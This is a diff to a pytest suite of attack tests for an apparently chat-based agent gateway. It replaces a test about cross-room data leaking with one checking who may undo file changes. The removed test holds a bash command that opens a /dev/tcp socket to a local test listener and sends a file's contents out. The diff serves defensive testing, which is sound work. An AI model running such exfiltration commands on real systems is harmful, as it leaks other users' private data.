@@ -11,7 +11,6 @@ from typing import Any, ParamSpec
 
 import pytest
 
-from gateway.core.facts import ApprovalRequested
 from tests.attacks.attacks_approvals import APPROVALS
 from tests.attacks.attacks_files import FILES, shared
 from tests.attacks.attacks_permissions import RIGHTS
@@ -19,7 +18,7 @@ from tests.attacks.attacks_private_rooms import ROOMS
 from tests.attacks.attacks_prompt_injection import WORDS
 from tests.attacks.attacks_shell import BOMBS, SHELL
 from tests.attacks.attacks_web import WEB
-from tests.attacks.hostile_kit import ADAM, Attack, Fate, Scene, Town, town
+from tests.attacks.hostile_kit import MIA, OLGA, Attack, Fate, Town, town
 from tests.kits.shell import let_nobody_in
 from tests.kits.waiting import until
 
@@ -106,42 +105,25 @@ async def test_whoever_may_read_it_reads_it_unasked(tmp_path: Path, monkeypatch:
 
 
 @story
-async def test_a_command_with_network_sends_nothing_that_is_written_elsewhere_meanwhile(
+async def test_what_was_changed_comes_back_by_a_command_of_who_may(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """The twin is in the same room: what is written there is sent unasked, at an admin's word."""
-    sends = (
-        "touch MARK-up; for n in $(seq 60); do x=$(cat MARK 2>/dev/null); [ $x ] && break; sleep 0.05; done; "
-        "exec 3<>/dev/tcp/127.0.0.1/PORT; printf 'GET /%s-MARK HTTP/1.0\\r\\n\\r\\n' $x >&3; cat <&3"
-    )
-    async with town(tmp_path, monkeypatch, bash={"network": True, "timeout": 10, "max_timeout": 20}) as it:
-
-        async def attempt(here: Scene, there: Scene, write: tuple[str, dict[str, object]]) -> tuple[str, str]:
-            command = sends.replace("MARK", here.mark).replace("PORT", str(it.inside.port))
-            begin = ("bash", {"command": command, "background": True})
-            while "may not run beside it" in await here.does(ADAM, begin):
-                await asyncio.sleep(0.1)
-            await until(here.file(f"{here.mark}-up").exists)
-            told = await there.does(ADAM, (write[0], {**write[1]}))
-            await until(lambda: any(one.path.endswith(here.mark) for one in it.inside.seen))
-            assert not await there.facts(ApprovalRequested, "approval_asked")
-            return told, next(one.path for one in it.inside.seen if one.path.endswith(here.mark))
-
-        def by_tool(here: Scene) -> tuple[str, dict[str, object]]:
-            return "write_file", {"path": here.mark, "text": "sesame"}
-
-        def by_command(here: Scene) -> tuple[str, dict[str, object]]:
-            return "bash", {"command": f"printf ses > n; printf ame >> n; mv n {here.mark}"}
-
-        for written in (by_tool, by_command):
-            here, there = it.scene(), it.scene(private=True)
-            told, sent = await attempt(here, there, written(here))
-            assert sent == f"/-{here.mark}", "nothing was there"
-            assert ("could send this out" in told) == (written is by_tool), told
-            assert here.file(here.mark).exists() == (written is by_command), "it waits until the job has ended"
-            twin = it.scene(private=True)
-            told, sent = await attempt(twin, twin, written(twin))
-            assert sent == f"/sesame-{twin.mark}", told
+    async with town(tmp_path, monkeypatch) as it:
+        here, beside = it.scene(), it.scene()
+        for scene in (here, beside):
+            scene.file("a.txt").write_text("one")
+        await here.does(OLGA, ("bash", {"command": "echo two > a.txt"}))
+        assert here.file("a.txt").read_text() == "two\n"
+        assert it.again is not None
+        await it.again()
+        await here.speak(MIA, "!files undo", mention=False)
+        await beside.speak(OLGA, "!files undo", mention=False)
+        await until(lambda: beside.posts)
+        assert "I changed no file" in beside.posts[-1]
+        assert here.file("a.txt").read_text() == "two\n", "neither a member's word nor one elsewhere"
+        await here.speak(OLGA, "!files undo", mention=False)
+        await until(lambda: "Brought back: `a.txt`" in "".join(here.posts))
+        assert here.file("a.txt").read_text() == "one"
 
 
 def may_know(place: str, secret: str) -> bool:
